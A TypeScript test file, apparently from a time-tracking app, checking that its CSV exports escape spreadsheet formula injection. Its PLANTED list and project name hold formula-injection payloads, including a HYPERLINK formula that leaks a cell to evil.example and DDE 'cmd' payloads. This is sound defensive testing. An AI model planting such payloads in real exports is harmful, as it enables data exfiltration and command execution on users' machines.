/**
 * Issue 20, finding 8: the CSV downloads must not carry spreadsheet formulas. Staff write shift
 * notes and tags, managers name projects and activities, and the owner opens shifts.csv and
 * report.csv in a spreadsheet, which would run a cell starting with `=`, `+`, `-`, `@`, a tab or a
 * carriage return as a formula. Such text cells get a leading `'` (OWASP's rule, csv-stringify's
 * `escape_formulas`); ordinary values and numbers, negative ones included, are written as before.
 */
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { writeCsv, type CsvDownload } from '../../rest-facade/csv/csv-download';
import { startTestApp, type Credentials, type TestApp } from '../support/test-app';

let t: TestApp;
let owner: Credentials;
let staff: Credentials & { id: string };

/** What staff can plant: the finding's examples and the other characters of the rule. */
const PLANTED = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1', // a full-width =, which some spreadsheets read as one
];
/** Values that merely contain such characters, or none: unchanged. */
const ORDINARY = ['plain notes', 'a=b', '1-2', 'x + y', 'mail@example.com', ''];

const PROJECT = "=cmd|' /C calc'!A0";
const ACTIVITY = '@activity';
const TAGS = ['+tag', 'ok'];

beforeAll(async () => {
  t = await startTestApp();
  owner = await t.newAccount({ timeZone: 'UTC' });
  staff = await t.newStaff(owner);
  const company = await t.create(owner, 'createCompany', {
    name: 'Formula Ltd',
    visibility: 'PUBLIC',
  });
  const project = await t.create(owner, 'createProject', {
    companyId: company.id,
    name: PROJECT,
    visibility: 'PUBLIC',
  });
  const activity = await t.create(owner, 'createActivity', {
    projectId: project.id,
    name: ACTIVITY,
  });
  // The staff member writes their own shifts, one per note, an hour each.
  for (const [i, notes] of [...PLANTED, ...ORDINARY].entries()) {
    const start = new Date(Date.UTC(2026, 2, 2, i)).toISOString();
    await t.gqlOk(
      staff,
      'mutation($input: CreateShiftInput!) { createShift(input: $input) { shift { id } } }',
      {
        input: {
          projectId: project.id,
          activityId: activity.id,
          start,
          stop: new Date(Date.parse(start) + 3_600_000).toISOString(),
          notes,
          tagList: i === 0 ? TAGS : [],
        },
      },
    );
  }
});
afterAll(() => t?.close());

async function download(path: string, query: Record<string, string> = {}) {
  const res = await request(t.app.express).get(path).query(query).auth(owner.login, owner.password);
  expect(res.status).toBe(200);
  return parse(res.text, { columns: true }) as Record<string, string>[];
}

test('shifts.csv: notes, tags, project and activity names that a spreadsheet would run start with a quote; others are unchanged', async () => {
  const rows = await download('/api/1/shifts.csv', { order: 'start' });
  expect(rows.map((r) => r.notes)).toEqual([...PLANTED.map((n) => `'${n}`), ...ORDINARY]);
  expect(rows[0]!.tag_list).toBe("'+tag,ok");
  expect(rows.slice(1).every((r) => r.tag_list === '')).toBe(true);
  expect(new Set(rows.map((r) => r.project_name))).toEqual(new Set([`'${PROJECT}`]));
  expect(new Set(rows.map((r) => r.activity_name))).toEqual(new Set([`'${ACTIVITY}`]));
  // Numbers, times and uuids are as they were.
  expect(new Set(rows.map((r) => r.duration_seconds))).toEqual(new Set(['3600']));
  expect(rows[0]!.start).toBe('2026-03-02T00:00:00Z');
  expect(rows[0]!.user_login).toBe(staff.login);
});

test('report.csv: project names and tags are neutralised the same way; the sums stay numbers', async () => {
  const rows = await download('/api/1/report.csv', {
    from: '2026-03-01T00:00:00Z',
    to: '2026-04-01T00:00:00Z',
    group_by: 'project,tag',
  });
  // The last row is the report's total (issue 34, item 6): no names, each shift counted once.
  const total = rows.pop()!;
  expect([total.row_type, total.project_name, total.tag, total.seconds]).toEqual([
    'total',
    '',
    '',
    String(3600 * (PLANTED.length + ORDINARY.length)),
  ]);
  expect(rows.map((r) => [r.project_name, r.tag, r.seconds]).sort()).toEqual(
    [
      [`'${PROJECT}`, "'+tag", '3600'],
      [`'${PROJECT}`, 'ok', '3600'],
      [`'${PROJECT}`, '', String(3600 * (PLANTED.length + ORDINARY.length - 1))],
    ].sort(),
  );
});

test('a number cell keeps its sign; the same text in a text cell is neutralised', async () => {
  const sink = new PassThrough();
  let text = '';
  sink.on('data', (chunk: Buffer) => (text += chunk.toString()));
  const rows = [{ amount: -1250, label: '-1250' }];
  const file: CsvDownload<(typeof rows)[number]> = {
    filename: 'x.csv',
    columns: [
      ['amount_cents', (r) => r.amount],
      ['label', (r) => r.label],
    ],
    pages: (async function* () {
      yield rows;
    })(),
  };
  await writeCsv(file, () => sink);
  await new Promise((resolve) => sink.on('end', resolve));
  expect(text).toBe("amount_cents,label\n-1250,'-1250\n");
});
